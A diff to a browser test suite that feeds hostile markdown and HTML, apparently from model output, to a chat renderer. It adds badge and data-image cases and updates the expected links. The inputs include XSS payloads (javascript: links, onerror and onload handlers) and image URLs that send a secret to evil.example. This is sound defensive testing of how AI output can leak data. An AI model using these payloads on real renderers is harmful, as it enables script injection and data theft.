@@ -11,6 +11,8 @@ const hostile = [
   '[press me](javascript:window.owned=1)',
   '[press me](data:text/html,<script>1</script>)',
   '![a picture](https://evil.example/pixel.png?secret=1)',
+  '[![a badge](https://evil.example/badge.svg)](https://evil.example/from-badge)',
+  '![a picture](data:image/png;base64,PGh0bWw+)',
   '![a picture](data:image/svg+xml,<svg onload="window.owned=1"/>)',
   '<form action="https://evil.example"><input autofocus></form>',
   '| <img src=x onerror="window.owned=1"> |\n|---|\n| [x](javascript:window.owned=1) |',
@@ -39,7 +41,12 @@ test.describe('what a model writes', () => {
     }))
     expect(found).toEqual({
       elements: [],
-      links: ['https://evil.example/pixel.png?secret=1', 'https://evil.example/'],
+      links: [
+        'https://evil.example/pixel.png?secret=1',
+        'https://evil.example/from-badge',
+        'https://evil.example/badge.svg',
+        'https://evil.example/',
+      ],
       owned: false,
     })
     await expect(answer).toContainText('bank.com (evil.example)')
